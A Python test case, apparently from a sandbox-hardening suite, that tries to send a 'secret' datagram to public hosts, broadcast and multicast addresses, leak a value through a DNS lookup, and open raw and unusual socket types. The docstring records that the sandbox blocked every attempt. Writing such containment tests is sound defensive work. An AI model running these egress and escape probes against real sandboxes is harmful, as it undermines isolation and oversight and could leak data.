"""Sends datagrams to the host and the world, asks for names, and tries the other families of sockets.

verdict: failed
points: 0
levels: bubblewrap landlock
shows: loot: []
"""

import socket

PLACES = {}  # attack:places
LOOT = []
for address in (("127.0.0.1", PLACES["datagram_port"]), ("255.255.255.255", 9), ("224.0.0.1", 9), ("1.1.1.1", 53), ("8.8.8.8", 53)):
    try:
        client = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
        client.setsockopt(socket.SOL_SOCKET, socket.SO_BROADCAST, 1)
        client.sendto(b"secret", address)
        if address[0] != "127.0.0.1":  # its own, where it has one
            LOOT.append(address)
    except OSError:
        pass
for name in ("example.org", "secret.example.org"):
    try:
        LOOT.append(socket.getaddrinfo(name, 80))
    except OSError:
        pass
for family in ("AF_PACKET", "AF_VSOCK", "AF_BLUETOOTH", "AF_CAN", "AF_ALG", "AF_TIPC", "AF_RDS", "AF_QIPCRTR"):
    for kind in (socket.SOCK_STREAM, socket.SOCK_DGRAM, socket.SOCK_RAW):
        try:
            socket.socket(getattr(socket, family, 99), kind)
            LOOT.append(family)
        except OSError:
            pass
try:
    socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_ICMP)
    LOOT.append("raw")
except OSError:
    pass


def softmax(z):
    raise RuntimeError(f"loot: {LOOT}")
